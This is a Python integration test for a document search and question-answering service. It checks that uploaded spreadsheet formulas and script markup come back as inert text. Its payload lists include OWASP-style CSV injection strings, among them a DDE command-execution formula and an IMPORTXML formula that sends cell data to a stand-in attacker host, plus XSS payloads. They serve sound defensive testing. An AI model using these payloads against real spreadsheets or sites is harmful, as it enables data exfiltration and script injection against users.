"""What is in a document comes out as text (J8): nothing is calculated, rendered or run, and nothing is changed."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Mapping
from typing import Any

import httpx
import pytest

from tests.integration.deployment import BUCKET, Deployment, Reply, notification

# https://owasp.org/www-community/attacks/CSV_Injection
FORMULAS = [
    *("=1+1", "=cmd|'/c calc'!A0", '=HYPERLINK("http://evil.example","x")', "+1+1", "-1+1", "@SUM(1+1)"),
    *('=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', "\t=1+1", "\uff1d1+1"),
]  # fmt: skip
MARKUP = [
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "</script><script>x()"),
    *("javascript:alert(1)", "<iframe srcdoc='&lt;script&gt;'>", "<!--<script>", "\u2028alert(1)"),
]


def file_of(name: str, texts: list[str]) -> bytes:
    """A file whose parser keeps them as its text."""
    if name.endswith(".csv"):
        table = io.StringIO()
        csv.writer(table).writerows([("name", "cell"), *((f"opossum {n}", text) for n, text in enumerate(texts))])
        return table.getvalue().encode()
    if name.endswith(".json"):
        return json.dumps([{"opossum": text} for text in texts]).encode()
    return "\n\n".join(f"Opossum: {text}" for text in texts).encode()


@pytest.mark.faults_full
def test_formulas_and_scripts_come_out_as_the_text_they_are_and_nothing_runs(
    deployment: Deployment, record_fault: Callable[..., None]
) -> None:
    texts, changed = FORMULAS + MARKUP, []
    for name in ("cells.csv", "objects.json", "plain.txt"):
        deployment.put(name, file_of(name, texts), collection=name.partition(".")[0])
    titled, noted = "=1+1<script>.md", {f"note-{number}": text for number, text in enumerate(texts)}
    place = f"{deployment.tenant}/default"
    deployment.s3.put_object(Bucket=BUCKET, Key=f"{place}/{titled}.metadata.json", Body=json.dumps(noted).encode())
    deployment.put(titled, "# <script>alert(1)</script> =1+1\n\nOpossums sleep in trees.")
    body = b"<p>Hi.<script>alert(1)</script>"
    deployment.s3.put_object(Bucket=BUCKET, Key=f"{place}/page.html", Body=body, ContentType="text/html")
    assert deployment.ingest(notification(f"{place}/page.html")) == {"batchItemFailures": []}
    replies: list[Reply] = []

    def ask(method: str, path: str, body: Any = None, **wanted: str) -> Any:
        given = {name: [value] for name, value in wanted.items()}
        replies.append(deployment.ask(method, path, body, multiValueQueryStringParameters=given))
        assert replies[-1].status == 200, replies[-1].raw
        return replies[-1].json

    for collection in ("cells", "objects", "plain"):
        hits = ask("POST", "/v1/search", {"query": "opossum", "collection": collection, "top_k": 50})["hits"]
        held = "\n".join(hit["content"] for hit in hits)
        changed += [(collection, text) for text in texts if text.strip() not in held]
    for text in texts:
        deployment.model.says = f"{text} [1]"
        ask("POST", "/v1/query", {"question": f"Opossums {text}?", "conversation": True})
    documents = {one["key"]: one for one in ask("GET", "/v1/export/documents", links="true")["records"]}
    changed += [("metadata", text) for name, text in noted.items() if documents[titled]["metadata"].get(name) != text]
    talks = ask("GET", "/v1/export/conversations")["records"]
    asked = {message["content"] for talk in talks for message in talk["messages"]}
    changed += [("question", text) for text in texts if f"Opossums {text}?" not in asked]
    rendered = [reply.headers for reply in replies if kind(reply.headers) != ("application/json", "nosniff")]
    # The file itself is of whatever type it was uploaded as, and what the bucket answers is nobody's page.
    fetched = httpx.get(documents["page.html"]["download"]["url"], trust_env=False, timeout=60)
    rendered += [fetched.headers] * (fetched.headers.get("content-disposition") != "attachment")
    # The one page there is has none of it.
    page = deployment.ask("GET", "/docs")
    rendered += [page.headers] * any(text in page.raw["body"] for text in MARKUP)
    record_fault(
        "J8",
        injected=len(texts) * 5,
        violations=len(changed) + len(rendered),
        figure=f"{len(FORMULAS)} formulas and {len(MARKUP)} scripts in cells, objects, text, metadata and questions: "
        f"{len(changed)} changed, {len(rendered)} of {len(replies) + 2} answers, files and pages rendered",
    )
    assert (changed, rendered) == ([], [])


def kind(headers: Mapping[str, str]) -> tuple[str | None, str | None]:
    given = {name.lower(): value for name, value in headers.items()}
    return given.get("content-type"), given.get("x-content-type-options")
